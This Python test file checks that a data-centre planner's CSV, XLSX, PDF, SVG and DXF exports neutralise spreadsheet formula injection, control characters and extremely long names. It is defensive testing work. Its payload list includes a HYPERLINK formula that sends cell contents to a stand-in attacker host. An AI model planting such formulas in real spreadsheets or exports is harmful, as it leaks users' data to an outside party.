"""Issue 10: user text that attacks or overwhelms the exports, read back with the readers the
users have (csv, openpyxl, xml.etree, pypdf)."""

from __future__ import annotations

import csv
import io
import re
import time
import xml.etree.ElementTree as ET

import ezdxf
import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from planner.export import bom, cabling_pdf, floorplan_svg, labels_pdf, qr, schedule
from planner.export.bidi import visual
from planner.export.options import ExportOptions
from planner.export.printed_text import wrap_lines
from planner.export.registry import EXPORT_KINDS, export_to
from planner.export.sheet_text import clean_text, sheet_text
from planner.layout.templates import build_template
from planner.model.catalog import CatalogItem
from planner.model.document import Document, natural_key

from .conftest import cabled_plan

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A2)", "\tTAB", "\rCR"]
LONG = 10_000
#: Exports for systems with rules for names (Slurm host names, NetBox's name lengths): a name
#: they cannot take stops the export with the reason (ValueError: the CLI's exit 1), nothing written.
REFUSE_NAMES = {"slurm", "netbox"}


def first_node(doc: Document):
    return min((d for d in doc.devices.values() if d.name == "N1"), key=lambda d: natural_key(d.rack))


def small_plan() -> Document:
    """The pod template with 8 nodes and every third cable: quick to export in every format."""
    doc = build_template("pod", nodes=8)
    for index, link_id in enumerate(sorted(doc.links, key=natural_key)):
        if index % 3:
            doc.remove(link_id)
    return doc


def named_plan(names: list[str]) -> tuple[Document, list[str]]:
    """A small plan whose first devices carry ``names``; returns it and their ids."""
    doc = small_plan()
    linked = sorted({d for link in doc.links.values() for d in (link.a_device, link.b_device)}, key=natural_key)
    ids = linked[:len(names)]
    assert len(ids) == len(names)
    for device_id, name in zip(ids, names):
        doc.set_fields(device_id, {"name": name})
    return doc, ids


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"))))


# --- spreadsheets: formula injection -------------------------------------------------------

@pytest.mark.parametrize("typed", FORMULAS)
def test_sheet_text_neutralises_formula_starts_and_keeps_other_text(typed):
    assert sheet_text(typed) == "'" + typed
    assert sheet_text("R01-U01 = ok") == "R01-U01 = ok"
    assert sheet_text(7.5) == 7.5 and sheet_text(-3) == -3  # numbers stay numbers


def test_cable_csv_neutralises_every_formula_and_keeps_numbers():
    doc, _ids = named_plan(FORMULAS)
    out = io.BytesIO()
    schedule.write_csv(doc, out)
    rows = csv_rows(out.getvalue())
    devices = {row[3] for row in rows[1:]} | {row[7] for row in rows[1:]}
    for typed in FORMULAS:
        assert "'" + typed in devices, typed  # documented: the CSV holds ' + the typed text
        assert typed not in devices
    for row in rows[1:]:
        assert not row[0].startswith(("=", "+", "-", "@"))
        float(row[12]), float(row[13]), int(row[2])  # numbers are written as numbers, unquoted


def test_cable_xlsx_stores_the_typed_text_as_text_never_a_formula():
    doc, _ids = named_plan(FORMULAS)
    out = io.BytesIO()
    schedule.write_xlsx(doc, out)
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    found = {cell.value: cell for cell in cells if isinstance(cell.value, str)}
    for typed in FORMULAS:
        if typed.startswith("\r"):  # XML keeps no CR: a line end reads back as LF (documented)
            assert typed.replace("\r", "\n") in found
            continue
        assert typed in found, typed  # exactly what the user typed
        assert found[typed].data_type == "s" and found[typed].quotePrefix
    numbers = [sheet.cell(row, 13).value for row in range(2, sheet.max_row + 1)]
    assert all(isinstance(value, float) for value in numbers)
    assert all(isinstance(sheet.cell(row, 3).value, int) for row in range(2, sheet.max_row + 1))


def test_bom_csv_neutralises_custom_equipment_names():
    doc = small_plan()
    evil = '=HYPERLINK("http://evil.example","x")'
    item = CatalogItem(key="-custom-node", kind="node", name=evil, height_u=1, width_m=0.44, depth_m=0.8,
                       gpus=8, port_cages=8, port_speed_gbps=400, custom=True)
    doc.catalog.add(item)
    doc.set_fields(first_node(doc).id, {"type": item.key})
    out = io.StringIO()
    bom.write_bom_csv(doc, out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    custom = [row for row in rows if row["key"] == "'-custom-node"]
    assert custom and custom[0]["description"] == "'" + evil
    assert all(row["quantity"].isdigit() for row in rows)


# --- control characters -------------------------------------------------------------------

CONTROL = "N\x00\x01\x08\x0b\x0c\x1b\x7f\x85end"


def test_clean_text_replaces_control_characters_and_keeps_line_breaks():
    assert clean_text(CONTROL) == "N" + "\ufffd" * 8 + "end"
    assert clean_text("a\tb\nc\rd") == "a\tb\nc\rd"
    assert clean_text("x\ud800y\uffff") == "x\ufffdy\ufffd"


def test_control_characters_do_not_break_xlsx_svg_csv_or_pdf(tmp_path):
    doc, ids = named_plan([CONTROL])
    rack = doc.devices[ids[0]].rack
    doc.set_fields(rack, {"name": "R\x02" + "\x1f"})
    doc.meta.project = "P\x03roject"
    cleaned = clean_text(CONTROL)
    for kind, spec in EXPORT_KINDS.items():
        path = tmp_path / f"out-{kind}{spec.suffix}"
        try:
            export_to(doc, kind, path, ExportOptions())
        except ValueError:  # Slurm takes no control character in a host name
            assert kind in REFUSE_NAMES and not path.exists()
            continue
        if spec.folder:
            files = " ".join(p.read_text(encoding="utf-8") for p in path.rglob("*") if p.is_file())
            assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", files)
            continue
        data = path.read_bytes()
        if kind == "floorplan-dxf":
            drawing = ezdxf.readfile(path)
            texts = " ".join(e.dxf.text for e in drawing.modelspace().query("TEXT"))
            assert not any(ch in texts for ch in "\x02\x1f\x03")
        elif kind == "cables-xlsx":
            sheet = load_workbook(path).active
            assert cleaned in {cell.value for row in sheet.iter_rows() for cell in row}
        elif kind == "floorplan-svg":
            root = ET.fromstring(data)
            words = " ".join(t.text or "" for t in root.iter("{http://www.w3.org/2000/svg}text"))
            assert "R\ufffd\ufffd" in words and "P\ufffdroject" in words
        elif kind == "cables-csv":
            assert cleaned in {cell for row in csv_rows(data) for cell in row}
        elif spec.suffix == ".pdf":
            text = " ".join(page.extract_text() for page in PdfReader(path).pages)
            assert "\x00" not in text and "\x1b" not in text


# --- long text: every export finishes and reads back --------------------------------------

def long_plan() -> Document:
    doc = small_plan()
    node = first_node(doc)
    doc.meta.project, doc.meta.hall, doc.meta.author = "P" * LONG, "H" * LONG, "A" * LONG
    doc.meta.notes = "note " * (LONG // 5)
    doc.set_fields(node.id, {"name": "N" + "x" * LONG})
    doc.set_fields(node.rack, {"name": "R" * LONG, "row": "W" * LONG})
    doc.set_fields(doc.links_of(node.id)[0].id, {"label": "L" * LONG})
    zone = next(iter(doc.zones.values()))
    doc.set_fields(zone.id, {"name": "Z" * LONG})
    return doc


@pytest.mark.parametrize("kind", sorted(EXPORT_KINDS))
def test_ten_thousand_character_names_export_quickly_and_read_back(kind, tmp_path):
    doc = long_plan()
    options = ExportOptions(revision="V" * LONG, author="A" * LONG, file_name="F" * LONG)
    path = tmp_path / f"long{EXPORT_KINDS[kind].suffix}"
    started = time.perf_counter()
    if kind in REFUSE_NAMES:  # a 10,000-character host name: refused with the reason, quickly
        with pytest.raises(ValueError):
            export_to(doc, kind, path, options)
        assert time.perf_counter() - started < 30 and not path.exists()
        return
    export_to(doc, kind, path, options)
    assert time.perf_counter() - started < 30
    if EXPORT_KINDS[kind].folder:  # nccl-topo, ufm-cvt: text files that read back
        assert all(p.read_text(encoding="utf-8") for p in path.iterdir() if p.is_file())
        return
    if kind == "floorplan-dxf":
        assert all(len(e.dxf.text) <= 300 for e in ezdxf.readfile(path).modelspace().query("TEXT"))
        return
    data = path.read_bytes()
    if kind.endswith("pdf"):
        pages = PdfReader(path).pages
        text = " ".join(page.extract_text() for page in pages)
        assert "…" in text  # the long fields were cut, with an ellipsis
        assert max(len(word) for word in text.split()) < 600  # no 10k-character run on the paper
        if kind == "cabling-pdf":
            assert "LLLLLLLLLL" in text and "route:" in text
    elif kind in ("cables-csv", "tick-sheet-csv"):
        rows = csv_rows(data)
        assert "L" * LONG in {row[0] for row in rows}  # the schedule keeps the full text
    elif kind == "cables-xlsx":
        values = {cell.value for row in load_workbook(path).active.iter_rows() for cell in row}
        assert "L" * LONG in values
    elif kind == "floorplan-svg":
        root = ET.fromstring(data)
        assert all(len(t.text or "") <= 8 * floorplan_svg.FIELD_CHARS + 10
                   for t in root.iter("{http://www.w3.org/2000/svg}text"))
    else:
        assert csv_rows(data)


def test_wrap_lines_caps_lines_and_ends_with_an_ellipsis():
    lines = wrap_lines("word " * 2000, 7, 100, 3)
    assert len(lines) == 3 and lines[-1].endswith("…")
    assert wrap_lines("short text", 7, 200, 3) == ["short text"]
    broken = wrap_lines("x" * 500, 7, 50, 2)  # one word longer than the line is broken anywhere
    assert len(broken) == 2 and broken[0].startswith("xxx") and broken[1].endswith("…")


def test_qr_payload_is_shortened_by_the_stated_rule():
    doc = small_plan()
    row = schedule.cable_rows(doc)[0]
    version = qr.max_version(23.0)
    payload, note = labels_pdf.qr_payload(row, version)
    assert note == "" and payload.splitlines() == [row.label, row.a.short(), row.b.short()]
    long_end = schedule.CableRow(row.link_id, row.label, schedule.CableEnd("r", "R" * 400, 1, "D", "P1"), row.b,
                                 row.tier, row.rail, row.media, row.length_m, row.stock_m)
    assert labels_pdf.qr_payload(long_end, version) == (row.label, labels_pdf.QR_LABEL_ONLY)
    long_label = schedule.CableRow(row.link_id, "L" * LONG, row.a, row.b, row.tier, row.rail, row.media,
                                   row.length_m, row.stock_m)
    payload, note = labels_pdf.qr_payload(long_label, version)
    assert note == labels_pdf.QR_LABEL_CUT and payload.endswith("…") and payload.startswith("LLL")
    assert qr.fits(payload, version) and not qr.fits(payload[:-1] + "L…", version)
    assert qr.qr_matrix(payload).shape[0] <= 17 + 4 * version


def test_labels_say_when_their_qr_code_was_shortened():
    doc = small_plan()
    node = first_node(doc)
    doc.set_fields(doc.links_of(node.id)[0].id, {"label": "L" * LONG})
    out = io.BytesIO()
    labels_pdf.write_labels_pdf(doc, out)
    text = " ".join(page.extract_text() for page in PdfReader(out).pages)
    assert text.count(labels_pdf.QR_LABEL_CUT) == 2  # both labels of that cable


# --- scripts in the PDF text layer ---------------------------------------------------------

SCRIPTS = {
    "latin1": "Café Zürich ÿ", "greek": "Αθήνα", "cyrillic": "Зал", "chinese": "机房", "japanese": "東京ラック",
    "korean": "서울랙", "hebrew": "שלום", "arabic": "مرحبا", "emoji": "rack😀🔥",
}


def test_names_in_any_script_copy_out_of_the_cabling_plan_as_typed(options):
    doc = cabled_plan()
    nodes = sorted((d for d in doc.devices.values() if d.type.startswith("node")), key=lambda d: natural_key(d.id))
    for device, name in zip(nodes, SCRIPTS.values()):
        doc.set_fields(device.id, {"name": name})
    out = io.BytesIO()
    cabling_pdf.write_cabling_pdf(doc, out, options)
    text = re.sub(r"\s+", "", " ".join(page.extract_text() for page in PdfReader(out).pages))
    for script, name in SCRIPTS.items():
        assert re.sub(r"\s+", "", name) in text, script


def test_right_to_left_text_is_drawn_in_visual_order():
    assert visual("שלום עולם") == "םלוע םולש"
    assert visual("R1 שלום 12") == "R1 12 םולש"  # the number follows the Hebrew word (UAX #9 W7, N1)
    assert visual("ארון (12) R5") == "R5 (12) ןורא"  # brackets mirrored in the right-to-left run
    assert visual("rack R01") == "rack R01"
    assert visual("שלום", base=0) == "םולש"
